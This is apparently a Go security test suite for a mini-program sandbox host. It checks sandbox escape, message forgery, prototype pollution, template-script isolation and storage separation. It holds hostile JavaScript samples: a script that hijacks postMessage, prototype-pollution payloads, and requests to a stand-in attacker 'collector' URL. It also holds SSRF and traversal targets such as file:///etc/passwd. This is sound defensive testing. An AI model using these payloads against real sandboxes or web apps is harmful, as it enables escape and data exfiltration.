package app

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"minimart/platform/testkit/browser"
	"minimart/program/build"
	"minimart/program/deliver"
	"minimart/program/pkgfile"
	"minimart/program/preview"
	"minimart/program/release"
)

// collector is the server of an attacker. Whatever reaches it has left the sandbox.
type collector struct {
	*httptest.Server
	mu   sync.Mutex
	hits []string
}

func newCollector(t *testing.T) *collector {
	t.Helper()
	c := &collector{}
	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		c.hits = append(c.hits, r.Method+" "+r.URL.String())
		c.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, "<!doctype html><link rel=icon href=data:,>collected")
	}))
	t.Cleanup(c.Close)
	return c
}

// neverHit checks that nothing came, and that something would have come: the same browser, outside of the sandbox, gets through.
func (c *collector) neverHit(r *rehearsal) {
	r.t.Helper()
	time.Sleep(500 * time.Millisecond) // what is on its way may arrive
	c.mu.Lock()
	hits := slices.Clone(c.hits)
	c.mu.Unlock()
	if len(hits) > 0 {
		r.t.Errorf("left the sandbox: %q", hits)
	}
	r.Run(chromedp.Navigate(c.URL + "/control"))
	r.AwaitText("body", "collected")
	c.mu.Lock()
	defer c.mu.Unlock()
	if !slices.Contains(c.hits, "GET /control") {
		r.t.Error("the collector cannot be reached from this browser at all, so this test shows nothing")
	}
}

// readFiles is a folder of testdata with the collector's address in it.
func readFiles(t *testing.T, dir string, c *collector) files {
	t.Helper()
	out := files{}
	err := filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		text, err := os.ReadFile(path)
		name, _ := filepath.Rel(dir, path)
		out[filepath.ToSlash(name)] = strings.ReplaceAll(string(text), "COLLECTOR", c.URL)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestNoWayOutOfTheWorkerReachesAnything(t *testing.T) {
	c := newCollector(t)
	r := rehearse(t, readFiles(t, "testdata/hostile/escape", c))
	r.program().Await(`document.querySelector("#report")?.textContent.startsWith("{")`)
	var text string
	if err := r.program().Eval(`document.querySelector("#report").textContent`, &text); err != nil {
		t.Fatal(err)
	}
	var report map[string]string
	if err := json.Unmarshal([]byte(text), &report); err != nil {
		t.Fatalf("%v: %s", err, text)
	}
	objects := 0
	for name, result := range report {
		switch {
		case result == "PASSED":
			t.Errorf("%s is open", name)
		case result == "an object":
			objects++
		case result == "absent", result == "nothing", result == "waiting", strings.HasPrefix(result, "refused: "):
		default:
			t.Errorf("%s: %q", name, result)
		}
	}
	if len(report) < 100 || objects == 0 {
		t.Errorf("only %d attempts were made, from %d objects: %s", len(report), objects, text)
	}
	// Refused for what they are, and told so.
	for name, want := range map[string]string{
		"request":                 "url not in domain list",
		"uploadFile":              "url not in domain list",
		"downloadFile":            "url not in domain list",
		"connectSocket":           "url",
		"previewImage":            "none of urls is a picture",
		"Function with arguments": "cannot make code from text",
		"indirect eval":           "",
		"import()":                "",
	} {
		if !strings.HasPrefix(report[name], "refused: ") || !strings.Contains(report[name], want) {
			t.Errorf("%s: %q, want a refusal that says %q", name, report[name], want)
		}
	}
	r.hostIsAlive()
	c.neverHit(r)
}

func TestTheServerRefusesWhatAHostDidNotAskFor(t *testing.T) {
	c := newCollector(t)
	dir := t.TempDir()
	plain.write(t, dir)
	url, _ := serve(t, dir, release.Domains{Request: []string{"https://api.example.com"}})
	for _, target := range []string{c.URL + "/direct", "https://api.example.com.evil.example/", "https://api.example.com:8443/", "http://api.example.com/", "https://api.example.com@127.0.0.1/", "file:///etc/passwd", "http://127.0.0.1/"} {
		wanted, _ := json.Marshal(map[string]any{"url": target, "method": "GET", "header": map[string]string{}})
		req, err := http.NewRequest(http.MethodPost, url+"/api/host/v1/programs/"+preview.App+"/fetch", http.NoBody)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("X-Minimart-Request", base64.RawURLEncoding.EncodeToString(wanted))
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		_ = resp.Body.Close()
		if resp.StatusCode < 400 || resp.Header.Get("X-Minimart-Response") != "" || !strings.Contains(string(body), "request:fail") {
			t.Errorf("%s: status %d, %s", target, resp.StatusCode, body)
		}
	}
	if len(c.hits) > 0 {
		t.Errorf("the server asked %q", c.hits)
	}
}

func TestAForgedMessageChangesNothingInTheHost(t *testing.T) {
	c := newCollector(t)
	r := rehearse(t, plain.with(files{"pages/index/index.js": strings.ReplaceAll(forger, "COLLECTOR", c.URL)}))
	r.program().Click("#go")
	r.awaitTerminal("forged all")
	r.awaitTerminal("a call after it: ok")
	r.AwaitText(inRunner("#bar h1"), "伪造")
	for _, wrong := range []string{"url(", "javascript:", "[object Object]"} {
		var html string
		if err := r.Top().Eval(`document.querySelector("mm-host").shadowRoot.querySelector("mm-runner").shadowRoot.innerHTML`, &html); err != nil || strings.Contains(html, wrong) {
			t.Errorf("%v: the host shows %s", err, wrong)
		}
	}
	var polluted string
	if err := r.Top().Eval(`String(({}).polluted) + String([].polluted) + String(document.title)`, &polluted); err != nil || strings.Contains(polluted, "yes") {
		t.Errorf("the host's prototypes: %q, %v", polluted, err)
	}
	for _, e := range r.Errors() {
		if strings.HasPrefix(e, "exception") {
			t.Errorf("the host stumbled: %s", e)
		}
	}
	r.hostIsAlive()
	c.neverHit(r)
}

// forger steals the port to the host and sends what no runtime would.
const forger = `
const g = Function('return this')()
const proto = g.MessagePort.prototype, post = proto.postMessage
let port
proto.postMessage = function (...args) { port = this; return post.apply(this, args) }
const evil = 'COLLECTOR'
Page({
  data: { word: '你好' },
  go() {
    console.log('so that the port is known')
    const send = (m) => { try { post.call(port, m) } catch (e) { console.log('not sent', e.message) } }
    const own = JSON.parse('{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}')
    let deep = {}
    for (let i = 0, at = deep; i < 5000; i++) at = at.x = {}
    for (const m of [
      null, undefined, 0, -1, 'text', true, [], {}, [[]], new Date(), new Map([[1, 2]]), /x/, new Error('x'), 10n, new ArrayBuffer(8), deep, own,
      { id: NaN, api: 'showToast', arg: { title: 'x' } }, { id: -1, api: 'constructor', arg: {} }, { id: 1e300, api: '__proto__', arg: null }, { id: '1', api: 'showToast' },
      { id: 900001, api: 'toString', arg: {} }, { id: 900002, api: { toString: 1 }, arg: {} }, { id: 900003, api: 'request', arg: { url: evil + '/forged', method: 'GET' } },
      { id: 900004, api: 'request', arg: own }, { id: 900005, api: 'request', arg: deep }, { id: 900006, api: 'storageSet', arg: { key: '__proto__', data: 'J1' } },
      { id: 900007, api: 'storageSet', arg: { key: 'big', data: 'x'.repeat(40 << 20) } }, { id: 900008, api: 'load', arg: { page: '__proto__' } }, { id: 900008, api: 'load', arg: { page: '../../app' } },
      { id: 900009, api: 'previewImage', arg: { urls: [evil + '/p', 'javascript:alert(1)'] } }, { id: 900010, api: 'showToast', arg: { title: 'x', image: evil + '/t' } },
      { id: 900011, api: 'navigateToMiniProgram', arg: { appId: '../../' + evil, path: evil } }, { id: 900012, api: 'navigateToMiniProgram', arg: { appId: 'javascript:alert(1)' } },
      { id: 900013, ok: 'an answer nobody asked for' }, { id: 900014, err: { message: 'x' } }, { id: 3, ok: 1 }, { id: 900015, on: 'close', data: {} },
      { id: 900016, task: 'abort' }, { id: 900016, task: '__proto__', arg: own }, { id: 900017, task: 'send', arg: { data: 'x' } },
      { ev: 'chrome', chrome: own }, { ev: 'chrome', chrome: { page: {}, title: { a: 1 }, background: 'url(' + evil + '/bar)', foreground: 'javascript:', tab: 1e9 } }, { ev: 'chrome', chrome: null },
      { ev: 'tabbar', tabbar: { list: [{ pagePath: 1, text: {}, icon: evil + '/tab1' }, { icon: 'javascript:1', selectedIcon: evil + '/tab2', text: 'x' }], background: 'url(' + evil + '/tabs)', color: 'red;x:url(' + evil + ')' } },
      { ev: 'tabbar', tabbar: { list: Array(100000).fill({ text: 'x' }) } }, { ev: 'tabbar', tabbar: [] }, { ev: 'tabbar', tabbar: null },
      { ev: 'log', level: 'constructor', args: own }, { ev: 'log', level: 'log', args: { length: 1e9 } }, { ev: 'log', level: 'log', args: [deep, null, undefined, 7] }, { ev: 'log', level: 'warn', args: ['\u001b[2J\u0007'], stack: { a: 1 } },
      { ev: 'ready' }, { ev: 'ready', extra: deep }, { ev: 'pong', n: 'x' }, { ev: 'pong', n: 1e9 }, { ev: '__proto__' }, { ev: 'in', where: {}, code: [] }, { ev: 'lost', page: deep }, { mm: 'hello' }, { mm: 'boot' }, { need: 'form' }, { code: 'alert(1)', name: 'x' },
      { ev: 'chrome', chrome: { page: 'pages/index/index', title: '伪造', foreground: 'black', background: '#ffffff', custom: false, loading: false, back: false, home: false, tab: -1, share: false } },
    ]) send(m)
    console.log('forged all')
    proto.postMessage = post
    setTimeout(() => jd.getSystemInfo({ complete: (r) => console.log('a call after it:', r.errMsg.split(':')[1]) }), 300)
  },
})
`

func TestBendingTheLanguageHarmsTheProgramAlone(t *testing.T) {
	c := newCollector(t)
	r := rehearse(t, plain.with(files{"pages/index/index.js": strings.ReplaceAll(`
Page({
  data: { word: '你好' },
  go() {
    const evil = 'COLLECTOR'
    Object.setPrototypeOf(jd, { get request() { return () => {} }, polluted: 'yes' })
    jd.__proto__ = null
    jd.constructor = jd.hasOwnProperty = () => { throw new Error('bent') }
    Object.defineProperty(Object.prototype, 'polluted', { value: 'yes', configurable: true })
    Object.defineProperty(Object.prototype, 'then', { get() { return undefined }, configurable: true })
    Object.prototype.toJSON = function () { return { url: evil + '/json' } }
    Array.prototype.map = Array.prototype.forEach = Array.prototype.filter = function () { return [evil + '/array'] }
    Array.prototype[Symbol.iterator] = function* () { yield evil }
    String.prototype.replace = String.prototype.split = () => evil
    Map.prototype.get = Map.prototype.has = () => undefined
    Promise.prototype.then = function () { return this }
    JSON.stringify = () => '{"s":1,"o":[["m",0,"x",{}]]}'
    Function.prototype.call = Function.prototype.apply = function () { return evil }
    Object.keys = Object.entries = Object.assign = () => { throw new Error('no keys') }
    setTimeout(() => { throw new Error('still') }, 50)
    for (const name of ['request', 'showToast', 'setStorage', 'navigateTo', 'previewImage', 'getImageInfo']) {
      try { jd[name]({ url: evil + '/' + name, title: 'x', key: 'k', data: {}, urls: [evil], src: evil }) } catch (e) { }
    }
    this.setData({ word: { polluted: 'yes' } })
  },
})
`, "COLLECTOR", c.URL)}))
	r.program().Click("#go")
	time.Sleep(2 * time.Second)
	for _, e := range r.Errors() {
		if strings.HasPrefix(e, "exception") && !strings.Contains(e, "blob:") {
			t.Errorf("the host stumbled: %s", e)
		}
	}
	var polluted string
	if err := r.Top().Eval(`String(({}).polluted)`, &polluted); err != nil || polluted != "undefined" {
		t.Errorf("the host's prototype: %q, %v", polluted, err)
	}
	r.hostIsAlive()
	c.neverHit(r)
}

func TestNothingThatAPageShowsTellsAnyoneAnything(t *testing.T) {
	c := newCollector(t)
	r := rehearse(t, readFiles(t, "testdata/hostile/view", c))
	r.program().AwaitText("#end", "done")
	time.Sleep(2 * time.Second)
	var seen struct {
		Text      string `json:"text"`
		Scripts   int    `json:"scripts"`
		Frames    int    `json:"frames"`
		Handlers  int    `json:"handlers"`
		Ran       string `json:"ran"`
		Addresses string `json:"addresses"`
	}
	err := r.program().Eval(`(() => {
		const all = [...document.querySelectorAll("mm-page *")];
		return {
			text: document.querySelector("#words").innerText, scripts: all.filter((e) => e.localName === "script").length,
			frames: all.filter((e) => /^(iframe|object|embed|base|meta|link|form)$/.test(e.localName)).length,
			handlers: all.reduce((n, e) => n + [...e.attributes].filter((a) => /^on/i.test(a.name)).length, 0),
			ran: String(window.ran), addresses: all.map((e) => e.getAttribute("href") || e.getAttribute("xlink:href") || "").join(""),
		} })()`, &seen)
	if err != nil {
		t.Fatal(err)
	}
	if seen.Scripts+seen.Frames+seen.Handlers > 0 || seen.Ran != "undefined" || strings.Contains(seen.Addresses, "javascript:") {
		t.Errorf("the document has what a program must not put there: %+v", seen)
	}
	for _, leak := range []string{"function Function", "[object Window]", "[object DedicatedWorker", "[object global", "[object Document"} {
		if strings.Contains(seen.Text, leak) {
			t.Errorf("an expression got hold of %q: %s", leak, seen.Text)
		}
	}
	r.program().Click("#away")
	r.awaitTerminal("navigator", "is not found in app.json")
	r.hostIsAlive()
	c.neverHit(r)
}

func TestTemplateScriptsThatReachOutsideDoNotBuild(t *testing.T) {
	for code, want := range map[string]string{
		"module.exports = { f: window.fetch }":                            "window cannot be reached",
		"module.exports = { f: Function('return this')() }":               "Function cannot be reached",
		"module.exports = { f: globalThis }":                              "globalThis cannot be reached",
		"module.exports = { f: setTimeout('x') }":                         "setTimeout cannot be reached",
		"module.exports = { f: ({}).__proto__ }":                          "__proto__",
		"module.exports = { f: (function(){}).prototype }":                "prototype",
		"module.exports = { f: new XMLHttpRequest() }":                    "",
		"module.exports = { f: import('x') }":                             "",
		"module.exports = { f: jd.request }":                              "jd cannot be reached",
		"module.exports = { f: this }":                                    "this means nothing outside of a function",
		"module.exports = { f: document.createElement('img').src = 'x' }": "document cannot be reached",
		"module.exports = { f: eval('1') }":                               "eval cannot be reached",
		"require('../../../../etc/passwd.jds')":                           "",
	} {
		dir := t.TempDir()
		plain.with(files{"pages/index/index.jxml": `<jds module="m">` + code + `</jds><view>{{m.f}}</view>`}).write(t, dir)
		pkg, found := pkgfile.ReadDir(dir, pkgfile.DefaultLimits())
		if pkg != nil {
			found.Append(build.Build(pkg, build.Options{}).Diagnostics)
		}
		if !found.HasErrors() || !strings.Contains(found.String(), "pages/index/index.jxml:1:") || !strings.Contains(found.String(), want) {
			t.Errorf("%s\n\tgot %s\n\twant %q at its place", code, found.String(), want)
		}
	}
}

func TestProgramsDoNotSeeOneAnothersStorage(t *testing.T) {
	programs := deliver.NewMemory()
	out := &terminal{}
	for _, app := range []string{"app_one", "app_two"} {
		dir := t.TempDir()
		plain.with(files{"pages/index/index.js": fmt.Sprintf(`
const before = jd.getStorageInfoSync().keys.sort().join() + ' ' + jd.getStorageSync('secret')
jd.setStorageSync('secret', %[1]q)
Page({ data: { word: '' }, onLoad() { jd.setStorage({ key: 'own ' + %[1]q, data: 1, complete: () => this.setData({ word: 'before: ' + before + ' after: ' + jd.getStorageSync('secret') }) }) } })
`, app)}).write(t, dir)
		pkg, found := pkgfile.ReadDir(dir, pkgfile.DefaultLimits())
		if pkg == nil || found.HasErrors() {
			t.Fatal(found.String())
		}
		result := build.Build(pkg, build.Options{})
		programs.Set(deliver.Program{App: app, Version: "v1", VersionType: "release", Label: "1", Name: app, Manifest: &result.Manifest}, result.Files)
	}
	p := preview.New(t.TempDir(), release.Domains{}, deliver.NewMemory(), out)
	server := httptest.NewServer(previewAPI(p, programs, streams{out: out, err: out}))
	t.Cleanup(server.Close)

	page := browser.Open(t, browser.Phone, server.URL+"/app/app_one")
	page.Frame("/run/app_one/").AwaitText("#page", "before: after: app_one")
	// A program does not wait for its own copy to be written through; leaving at once may be too early for it.
	page.Await(`new Promise(done => { const ask = indexedDB.open("minimart"); ask.onsuccess = () => {
		const get = ask.result.transaction("program-storage").objectStore("program-storage").get(["app_one", "own app_one"]);
		get.onsuccess = () => { ask.result.close(); done(get.result !== undefined) } } })`)
	page.Run(chromedp.Navigate(server.URL + "/app/app_two"))
	page.Frame("/run/app_two/").AwaitText("#page", "before: after: app_two")
	page.Run(chromedp.Navigate(server.URL + "/app/app_one"))
	page.Frame("/run/app_one/").AwaitText("#page", "before: own app_one,secret app_one after: app_one")
}
